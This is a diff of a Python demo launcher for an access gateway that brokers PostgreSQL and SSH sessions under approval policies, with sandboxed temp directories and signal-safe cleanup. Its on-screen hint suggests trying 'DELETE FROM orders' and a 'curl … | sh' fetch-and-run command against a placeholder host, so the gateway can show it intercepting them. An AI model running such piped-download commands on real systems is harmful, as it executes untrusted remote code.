@@ -1,35 +1,198 @@
 """Bring up the demo and tear it down: a PostgreSQL target seeded with sample data, an SSH
 target, an OpenID provider, TLS, tokens, and the engine with the example policies; then the TUI
-as the approver, or (headless) one JSON line on stdout and a wait for SIGINT/SIGTERM."""
+as the approver, or (headless) one JSON line on stdout and a wait for a signal.
+
+Each demo is a sandbox of its own, so that two run side by side on one checkout:
+
+- ``/tmp/gatewatch-demo-XXXX/`` (0700, the engine's user): the policies file the engine runs
+  (``policies.py``), the store and its journal, the control socket, the gateway's SSH host key,
+  TLS, the target passwords (``*.password``) and ``operator.env`` (the approver's token, for
+  ``gatewatch approvals`` from another terminal);
+- ``…/gatewatch-demo-XXXX.pg/``: the throw-away cluster, its Unix socket in a 0700 directory
+  and no password-less login over TCP;
+- ``…/gatewatch-demo-XXXX.home/``: the SSH target's home, owned by the account its shells run
+  as (``account.py``: ``gatewatch-demo`` when we are root), which can read none of the above.
+
+The three go away on every way out: ``q`` in the TUI, SIGINT, SIGTERM and SIGHUP (the terminal
+closed), also while the demo is still starting. Only SIGKILL leaves them behind.
+"""
 
 from __future__ import annotations
 
 import asyncio
+import contextlib
+import getpass
 import json
 import os
 import secrets
+import shlex
 import shutil
 import signal
 import sys
 import tempfile
+from collections.abc import Callable
 from importlib import resources
 from pathlib import Path
-from typing import Any
+from typing import Any, TypeVar
 
 from engine.config import Config, load_config
 from engine.engine import Engine
+from gatewatch.demo.account import target_account
 from gatewatch.demo.oidc import DemoOidcProvider
 from gatewatch.demo.pgcluster import PgCluster, free_port
+from gatewatch.demo.policies import DemoPolicies, PoliciesError, Sandbox, Target
 from gatewatch.demo.sshtarget import DemoSshTarget
 from gatewatch.demo.tls import self_signed
 
+T = TypeVar("T")
+
 DEMO_DB = "shop"
 DEMO_ROLE = "gatewatch"
+DEMO_USER = "alice"         # the identity the hints connect as
+DEMO_APPROVER = "oncall"    # the identity the TUI decides approvals as
+SIGNALS = (signal.SIGINT, signal.SIGTERM, signal.SIGHUP)
 
 
 def default_policies() -> Path:
     """The example policies.yaml at the repository root (next to the packages)."""
     return Path(__file__).resolve().parents[2] / "policies.yaml"
+
+
+class _Shutdown:
+    """What a signal does: while the demo starts, cancel the start (the exit stack then undoes
+    what was done); once it runs, ``interrupt`` (end the wait, close the TUI); while it cleans
+    up, nothing — a second Ctrl-C must not leave a server running half-stopped."""
+
+    def __init__(self, task: asyncio.Task[Any]) -> None:
+        self.signal: int | None = None
+        self.interrupt: Callable[[], object] = task.cancel
+
+    def signalled(self, signum: int) -> None:
+        if self.signal is None:
+            self.signal = signum
+            self.interrupt()
+
+
+async def run_demo(policies: Path, *, headless: bool) -> int:
+    loop = asyncio.get_running_loop()
+    task = asyncio.current_task()
+    assert task is not None
+    shutdown = _Shutdown(task)
+    for sig in SIGNALS:
+        loop.add_signal_handler(sig, shutdown.signalled, sig)
+    try:
+        async with contextlib.AsyncExitStack() as cleanup:
+            try:
+                info = await _bring_up(policies, cleanup)
+            except asyncio.CancelledError:
+                if shutdown.signal is None:
+                    raise
+                task.uncancel()
+                _say("gatewatch demo: interrupted while starting; cleaning up.")
+                return 128 + shutdown.signal
+            if headless:
+                stop = asyncio.Event()
+                shutdown.interrupt = stop.set
+                if shutdown.signal is None:
+                    print(json.dumps(info), flush=True)
+                    await stop.wait()
+                _say("stopping…")
+            else:
+                await _run_tui(info, shutdown)
+            shutdown.interrupt = _nothing
+        if not headless:
+            _say(f"Gatewatch demo: stopped; {info['dir']} (store, control socket, targets, keys "
+                 "and tokens) removed.")
+        return 0
+    finally:
+        for sig in SIGNALS:
+            loop.remove_signal_handler(sig)
+
+
+async def _bring_up(source: Path, cleanup: contextlib.AsyncExitStack) -> dict[str, Any]:
+    """Start everything, registering each piece's undoing before it starts."""
+    load_config(source)     # a broken file fails here, with the loader's file:line: message
+    policies = DemoPolicies(source)
+    for name in (DEMO_USER, DEMO_APPROVER):
+        if name not in policies.identities:
+            raise PoliciesError(f"{source}: the demo needs an identity named {name}")
+    pg_name, ssh_name = policies.first("postgres"), policies.first("ssh")
+    account = await _blocking(target_account)
+
+    work = Path(tempfile.mkdtemp(prefix="gatewatch-demo-"))     # 0700
+    cleanup.callback(shutil.rmtree, work, ignore_errors=True)
+    pg_base, home = _sibling(work, "pg", cleanup), _sibling(work, "home", cleanup)
+
+    cluster = PgCluster(pg_base, trust_tcp=False)
+    cleanup.push_async_callback(asyncio.to_thread, cluster.stop)
+    target_password = secrets.token_urlsafe(24)
+    await _blocking(lambda: _prepare_target(cluster, target_password))
+
+    ssh_target = DemoSshTarget(home, run_as=account)
+    cleanup.push_async_callback(ssh_target.stop)
+    await ssh_target.start()
+
+    idp = DemoOidcProvider()
+    cleanup.push_async_callback(asyncio.to_thread, idp.stop)
+    await _blocking(idp.start)
+
+    known_hosts = work / "ssh_known_hosts"
+    known_hosts.write_text(ssh_target.known_hosts_line() + "\n")
+    tokens = {name: secrets.token_urlsafe(18) for name in policies.identities}
+    config_path = work / "policies.yaml"
+    policies.write(config_path, Sandbox(
+        store=work / "gatewatch.db",
+        control_socket=work / "control.sock",
+        tokens=tokens,
+        listen={name: f"127.0.0.1:{free_port()}" for name, _ in policies.connections},
+        postgres=Target(cluster.host, cluster.port, DEMO_ROLE,
+                        _secret(work / "postgres.password", target_password)),
+        ssh=Target(ssh_target.host, ssh_target.port, ssh_target.user,
+                   _secret(work / "ssh.password", ssh_target.password)),
+        ssh_known_hosts=known_hosts,
+        tls=self_signed(work / "tls"),
+        oidc_issuer=idp.issuer,
+    ))
+    config = load_config(config_path)
+    engine = Engine(config)
+    cleanup.push_async_callback(engine.stop)
+    await engine.start()
+
+    approver = tokens[DEMO_APPROVER]
+    _secret(work / "operator.env",
+            f"export GATEWATCH_CONFIG={shlex.quote(str(config_path))}\n"
+            f"export GATEWATCH_TOKEN={shlex.quote(approver)}\n")
+    if account is None:
+        _say(f"gatewatch demo: not running as root, so the SSH target's shells run as you "
+             f"({getpass.getuser()}) and can read this demo's files and memory; as root they "
+             "run as an account of their own.")
+    host, port = engine.listeners[pg_name]
+    ssh_host, ssh_port = engine.listeners[ssh_name]
+    return {
+        "config": str(config_path),
+        "store": str(config.engine.store),
+        "control": str(config.engine.control_socket),
+        "dir": str(work),
+        # What another terminal needs for `gatewatch sessions`, `approvals`, `approve`…
+        "env": {"GATEWATCH_CONFIG": str(config_path), "GATEWATCH_TOKEN": approver},
+        "postgres": {"host": host, "port": port, "dbname": DEMO_DB, "user": DEMO_USER,
+                     "password": tokens[DEMO_USER]},
+        "postgres_direct": {"host": cluster.host, "port": cluster.port, "dbname": DEMO_DB,
+                            "user": DEMO_ROLE, "password": target_password},
+        "ssh": {"host": ssh_host, "port": ssh_port, "user": DEMO_USER,
+                "password": tokens[DEMO_USER], "host_key": _gateway_host_key(config, ssh_name)},
+        "ssh_direct": {"host": ssh_target.host, "port": ssh_target.port,
+                       "user": ssh_target.user, "password": ssh_target.password,
+                       "host_key": ssh_target.known_hosts_line().split(" ", 1)[1],
+                       # the OS account the target's shells and transfers run as
+                       "runs_as": account.pw_name if account else getpass.getuser()},
+        "approver": {"user": DEMO_APPROVER, "token": approver},
+        # Every identity's token, made at start (the agent report-bot's among them).
+        "tokens": tokens,
+        # A client-credentials token from here, as the password of pg_user on the
+        # postgres listener, opens a session as the agent.
+        "oidc": idp.demo_info(),
+    }
 
 
 def _prepare_target(cluster: PgCluster, password: str) -> None:
@@ -40,87 +203,40 @@ def _prepare_target(cluster: PgCluster, password: str) -> None:
     cluster.sql(f'SET ROLE "{DEMO_ROLE}";\n{seed}', dbname=DEMO_DB)
 
 
-async def run_demo(policies: Path, *, headless: bool) -> int:
-    work = Path(tempfile.mkdtemp(prefix="gatewatch-demo-"))
-    cluster = PgCluster(work / "pg")
-    ssh_target = DemoSshTarget(work / "ssh-home")
-    idp: DemoOidcProvider | None = None
-    engine: Engine | None = None
+async def _blocking(step: Callable[[], T]) -> T:
+    """Run a blocking step in a thread. A signal cancels the wait, not the thread: let the step
+    finish first, so that the cleanup that follows sees all it did (a server it started)."""
+    future = asyncio.get_running_loop().run_in_executor(None, step)
     try:
-        idp = await asyncio.to_thread(DemoOidcProvider().start)
-        target_password = secrets.token_urlsafe(24)
-        await asyncio.to_thread(_prepare_target, cluster, target_password)
-        await ssh_target.start()
-        known_hosts = work / "ssh_known_hosts"
-        known_hosts.write_text(ssh_target.known_hosts_line() + "\n")
-        cert, key = self_signed(work / "tls")
-        tokens = {"alice": secrets.token_urlsafe(18), "oncall": secrets.token_urlsafe(18)}
-        listen_port = free_port()
-        os.environ.update({
-            "GATEWATCH_SHOP_LISTEN": f"127.0.0.1:{listen_port}",
-            "GATEWATCH_SHOP_PG_HOST": cluster.host,
-            "GATEWATCH_SHOP_PG_PORT": str(cluster.port),
-            "GATEWATCH_SHOP_PG_USER": DEMO_ROLE,
-            "GATEWATCH_SHOP_PG_PASSWORD": target_password,
-            "GATEWATCH_TLS_CERT": str(cert),
-            "GATEWATCH_TLS_KEY": str(key),
-            "GATEWATCH_ALICE_TOKEN": tokens["alice"],
-            "GATEWATCH_ONCALL_TOKEN": tokens["oncall"],
-            "GATEWATCH_WEB_LISTEN": f"127.0.0.1:{free_port()}",
-            "GATEWATCH_WEB_SSH_HOST": ssh_target.host,
-            "GATEWATCH_WEB_SSH_PORT": str(ssh_target.port),
-            "GATEWATCH_WEB_SSH_USER": ssh_target.user,
-            "GATEWATCH_WEB_SSH_PASSWORD": ssh_target.password,
-            "GATEWATCH_WEB_KNOWN_HOSTS": str(known_hosts),
-            "GATEWATCH_OIDC_ISSUER": idp.issuer,
-        })
-        config = load_config(policies)
-        engine = Engine(config)
-        await engine.start()
-        host, port = engine.listeners["shop"]
-        ssh_host, ssh_port = engine.listeners["web"]
-        info: dict[str, Any] = {
-            "config": str(policies),
-            "store": str(config.engine.store),
-            "control": str(config.engine.control_socket),
-            "postgres": {"host": host, "port": port, "dbname": DEMO_DB, "user": "alice",
-                         "password": tokens["alice"]},
-            "postgres_direct": {"host": cluster.host, "port": cluster.port, "dbname": DEMO_DB,
-                                "user": DEMO_ROLE, "password": target_password},
-            "ssh": {"host": ssh_host, "port": ssh_port, "user": "alice",
-                    "password": tokens["alice"], "host_key": _gateway_host_key(config)},
-            "ssh_direct": {"host": ssh_target.host, "port": ssh_target.port,
-                           "user": ssh_target.user, "password": ssh_target.password,
-                           "host_key": ssh_target.known_hosts_line().split(" ", 1)[1]},
-            "approver": {"user": "oncall", "token": tokens["oncall"]},
-            # A client-credentials token from here, as the password of pg_user on the
-            # postgres listener, opens a session as the agent.
-            "oidc": idp.demo_info(),
-        }
-        if headless:
-            print(json.dumps(info), flush=True)
-            await _wait_for_signal()
-        else:
-            await _run_tui(info)
-            print("Gatewatch demo: the TUI closed; stopping and removing the target.", flush=True)
-        return 0
-    finally:
-        if engine is not None:
-            await engine.stop()
-        await ssh_target.stop()
-        if idp is not None:
-            await asyncio.to_thread(idp.stop)
-        await asyncio.to_thread(cluster.stop)
-        shutil.rmtree(work, ignore_errors=True)
+        return await asyncio.shield(future)
+    except asyncio.CancelledError:
+        await asyncio.wait([future])
+        raise
 
 
-def _gateway_host_key(config: Config) -> str:
+def _sibling(work: Path, suffix: str, cleanup: contextlib.AsyncExitStack) -> Path:
+    """``<work>.<suffix>``, made here (0700, failing if it exists) and removed on the way out."""
+    path = work.with_name(f"{work.name}.{suffix}")
+    path.mkdir(mode=0o700)
+    cleanup.callback(shutil.rmtree, path, ignore_errors=True)
+    return path
+
+
+def _secret(path: Path, text: str) -> Path:
+    """Write ``text`` to a new file only its owner reads."""
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+    with os.fdopen(fd, "w") as f:
+        f.write(text)
+    return path
+
+
+def _gateway_host_key(config: Config, connection: str) -> str:
     """The gateway's SSH host key as a known_hosts entry's "type base64" (to pin it)."""
-    pub = config.engine.store.with_name("ssh_host_web_ed25519_key.pub")
+    pub = config.engine.store.with_name(f"ssh_host_{connection}_ed25519_key.pub")
     return " ".join(pub.read_text().split()[:2])
 
 
-async def _run_tui(info: dict[str, Any]) -> None:
+async def _run_tui(info: dict[str, Any], shutdown: _Shutdown) -> None:
     """The operator's TUI, as the demo's approver, in this process (over the control socket)."""
     from tui.app import GatewatchApp
     from tui.source import LiveSource
@@ -128,28 +244,26 @@ async def _run_tui(info: dict[str, Any]) -> None:
     pg = info["postgres"]
     ssh = info["ssh"]
     hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
-            f"dbname={pg['dbname']} user={pg['user']}'  then try DELETE FROM orders;\n"
+            f"dbname={pg['dbname']} user={pg['user']} sslmode=require'  then try DELETE FROM "
+            f"orders;\n"
             f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
-            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh")
+            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh\n"
+            f"      another terminal: . {info['dir']}/operator.env; gatewatch sessions; "
+            f"gatewatch approvals")
+    if os.geteuid() != 0:
+        hint += (f"\n      not root: the SSH target's shells run as you "
+                 f"({info['ssh_direct']['runs_as']}) and can read this demo's files")
     app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
-    loop = asyncio.get_running_loop()
-    for sig in (signal.SIGINT, signal.SIGTERM):
-        loop.add_signal_handler(sig, app.exit)
-    try:
+    shutdown.interrupt = app.exit
+    if shutdown.signal is None:
         await app.run_async()
-    finally:
-        for sig in (signal.SIGINT, signal.SIGTERM):
-            loop.remove_signal_handler(sig)
 
 
-async def _wait_for_signal() -> None:
-    loop = asyncio.get_running_loop()
-    stop = asyncio.Event()
-    for sig in (signal.SIGINT, signal.SIGTERM):
-        loop.add_signal_handler(sig, stop.set)
-    try:
-        await stop.wait()
-    finally:
-        for sig in (signal.SIGINT, signal.SIGTERM):
-            loop.remove_signal_handler(sig)
-    print("stopping…", file=sys.stderr, flush=True)
+def _say(line: str) -> None:
+    """A line on stderr; the terminal may be gone (SIGHUP), which must not stop the cleanup."""
+    with contextlib.suppress(OSError):
+        print(line, file=sys.stderr, flush=True)
+
+
+def _nothing() -> None:
+    """A signal while the demo cleans up: the cleanup is already under way."""
